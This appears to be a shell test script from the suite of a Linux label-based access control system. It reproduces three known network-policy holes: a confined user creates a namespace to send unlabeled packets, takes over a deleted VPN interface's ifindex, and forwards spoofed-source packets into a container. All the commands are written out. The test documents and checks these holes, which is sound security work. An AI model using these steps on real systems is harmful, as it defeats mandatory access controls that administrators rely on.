# nodes: 1
# Attack 7c (first half), interface rules and network namespaces.
# EXPECTS THE ATTACKS MARKED "hole" TO SUCCEED (documents holes).
#
# Confined root holds CAP_SYS_ADMIN and CAP_NET_ADMIN; unshare(CLONE_NEWNET),
# setns, veth pairs, addresses, routes and net.ipv4.ip_forward ask dsm
# nothing. A namespace dsmd does not know has no dsm_egress on its
# interfaces: what the attacker's sockets send there (still labeled c)
# leaves without a label, from any source address the attacker gives
# himself, and the receive check decides it by the unlabeled rules
# (unlabeled_label: source prefix, and skb->skb_iif for "dev" rules, an
# ifindex that dsmd resolved once, in its own namespace, at load).
#   (A) label shedding: c sends from its namespace over a veth with a
#       source in 10.55.0.0/24, which a rule without "dev" calls cluster;
#   (B) a stale "dev" rule: "dev vpn0" became an ifindex at load; c
#       deletes vpn0 and creates his veth with that very ifindex
#       (IFLA_NEW_IFINDEX, "ip link add ... index N"): what comes in
#       through it is vpn;
#   (C) the same ifindex in another namespace: dsmd --netns labels a
#       container namespace whose interface is ifindex 2, the host's eth0.
#       The "dev eth0" rule meant for cluster traffic arriving on the
#       host's eth0 also matches the container's ifindex 2: c routes his
#       unlabeled packets (source 10.77.0.200) from his namespace through
#       the host (forwarded: no socket, so dsm_egress on the container's
#       veth passes them untouched) into the container, where s takes them
#       for cluster.
# s hears cluster and vpn only; c itself may not reach s.
. "$(dirname "$0")/../lib.sh"
. "$(dirname "$0")/../dsm.sh"
. "$(dirname "$0")/../attack_net.sh"

netns_cleanup() {
	local d
	for d in vh vh2 vh3 vc vpn0; do ip link del "$d" 2>/dev/null; done
	ip netns del ctr 2>/dev/null
	sysctl -qw net.ipv4.ip_forward=0
}
trap 'DSM_TEST_FAILED=$?; dsm_cleanup; netns_cleanup' EXIT

# Before dsmd: the interface a "dev" rule names (standing in for a VPN
# device), and a container namespace whose interface is ifindex 2.
ip link add vpn0 type dummy && ip link set vpn0 up
vpn_index=$(cat /sys/class/net/vpn0/ifindex)
ip netns add ctr
ip link add vc type veth peer name ceth0 netns ctr
ip -n ctr link set lo up
ip -n ctr addr add 10.44.0.2/24 dev ceth0 && ip -n ctr link set ceth0 up
ip -n ctr route add default via 10.44.0.1
ip addr add 10.44.0.1/24 dev vc && ip link set vc up
ctr_index=$(ip netns exec ctr cat /sys/class/net/ceth0/ifindex)
echo "vpn0 is ifindex $vpn_index; the container's ceth0 is ifindex $ctr_index, eth0 $(cat /sys/class/net/eth0/ifindex)"

dsm_keyfile /tmp/cluster.key 1
dsm_policy /tmp/p.policy <<'EOF2'
node node1 = 1;
label s = 72;
label cluster = 73;
label vpn = 74;
allow unconfined s : process transition;
unlabeled 10.77.0.0/24 dev eth0 -> cluster;
unlabeled 10.55.0.0/24 -> cluster;
unlabeled 10.66.0.0/24 dev vpn0 -> vpn;
allow cluster@any s : peer recv;
allow vpn@any s : peer recv;
allow s self : socket inet dgram { create bind recv };
allow c self : socket inet dgram { create send };
allow c self : socket netlink { create bind connect send recv };
allow c self : process fork;
allow c unconfined : file exec;
EOF2
dsm_start /tmp/p.policy --key-file /tmp/cluster.key --netns /run/netns/ctr

udp_s() { # udp_s PORT [NETNS]: a server of s, counting for 40 s
	if [[ -n ${2:-} ]]; then
		ip netns exec "$2" "$DSMCTL" exec --label s -- "$PROBE" udp-recv "$1" 40 >"/tmp/srv.$1" &
	else
		as s "$PROBE" udp-recv "$1" 40 >"/tmp/srv.$1" &
	fi
	wait_ready "/tmp/srv.$1" || fail "server $1"
}
got() { wait_done "/tmp/srv.$1" '^received' 500; }
in_ns() { as c nsenter -t "$ns" -n "$@"; }

udp_s 9860
udp_s 9861
udp_s 9862
udp_s 9863
udp_s 9864 ctr
as c "$SOCKT" udp-send inet 127.0.0.1 9860 3 >/dev/null 2>&1

# c's namespace, with a veth into dsmd's.
ns=$(netns_spawn c 150) || fail "no namespace for c"
[[ $(readlink /proc/$ns/ns/net) != $(readlink /proc/self/ns/net) ]] || fail "not a new namespace"
as c ip link add vh type veth peer name v0 netns "$ns" || fail "veth"
as c ip addr add 10.55.0.1/24 dev vh
as c ip link set vh up
in_ns ip link set lo up
in_ns ip addr add 10.55.0.7/24 dev v0
in_ns ip link set v0 up
in_ns ip route add default via 10.55.0.1

# (A) 10.55.0.7 is "cluster" by a rule without dev.
in_ns "$SOCKT" udp-send inet 10.55.0.1 9861 3 >/dev/null 2>&1

# (B) control: 10.66.0.7 over a veth that is not vpn0 is the world.
as c ip link add vh3 type veth peer name v3 netns "$ns"
as c ip addr add 10.66.0.1/24 dev vh3
as c ip link set vh3 up
in_ns ip addr add 10.66.0.7/24 dev v3
in_ns ip link set v3 up
in_ns "$SOCKT" udp-send inet 10.66.0.1 9863 3 >/dev/null 2>&1
as c ip link del vh3
# ... and the same through a veth that took vpn0's ifindex.
as c ip link del vpn0 || fail "delete vpn0"
as c ip link add vh2 index "$vpn_index" type veth peer name v2 netns "$ns" || fail "veth with index"
as c ip addr add 10.66.0.1/24 dev vh2
as c ip link set vh2 up
in_ns ip addr add 10.66.0.7/24 dev v2
in_ns ip link set v2 up
echo "c's veth vh2 is ifindex $(cat /sys/class/net/vh2/ifindex)"
in_ns "$SOCKT" udp-send inet 10.66.0.1 9862 3 >/dev/null 2>&1

# (C) 10.77.0.200 (c's choice) from c's namespace, forwarded into the
# container. Forwarding is a sysctl (system kernel: c may not set it,
# attack_kernel); it is on here so that the rest of the attack is c's.
expect_alarmed 'sysctl: permission denied on key "net.ipv4.ip_forward"' \
	subject=c class=system perm=kernel verdict=deny -- as c sysctl -qw net.ipv4.ip_forward=1
sysctl -qw net.ipv4.ip_forward=1
in_ns ip addr add 10.77.0.200/32 dev v0
in_ns ip route replace default via 10.55.0.1 src 10.77.0.200
as c ip route add 10.77.0.200/32 dev vh
in_ns "$SOCKT" udp-send inet 10.44.0.2 9864 3 >/dev/null 2>&1 ||
	echo "send from 10.77.0.200 failed"

control "c -> s over lo" "$(got 9860)" "received 0"
alarm_expect subject=c subject_node=node1 target=s class=peer verdict=deny
attack "7c(A) c sheds its label in its own namespace and comes in as cluster" hole \
	"$(got 9861)" "received 3"
control "10.66.0.7 over an interface that is not vpn0" "$(got 9863)" "received 0"
alarm_expect subject=world target=s class=peer verdict=deny saddr=10.66.0.7
attack "7c(B) c's veth takes the deleted vpn0's ifindex: its traffic is vpn" hole \
	"$(got 9862)" "received 3"
attack "7c(C) 'dev eth0' matches the container's ifindex $ctr_index: c's packets are cluster there" \
	hole "$(got 9864)" "received 3"
